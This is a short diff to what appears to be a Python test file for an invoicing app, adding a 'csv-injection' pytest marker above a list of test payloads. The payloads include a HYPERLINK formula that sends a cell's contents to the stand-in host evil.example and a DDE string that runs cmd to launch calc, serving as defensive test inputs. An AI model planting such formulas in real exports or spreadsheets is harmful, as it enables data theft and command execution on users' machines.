@@ -21,6 +21,8 @@ from tests.disputes.collections.factories import TODAY, issued_invoice
 from tests.factories import ClientFactory, ContractFactory, LegalEntityFactory, UserFactory
 from tests.insights.kpis.factories import issued
 
+pytestmark = pytest.mark.control("csv-injection")
+
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
     "+1+cmd|' /C calc'!A0",
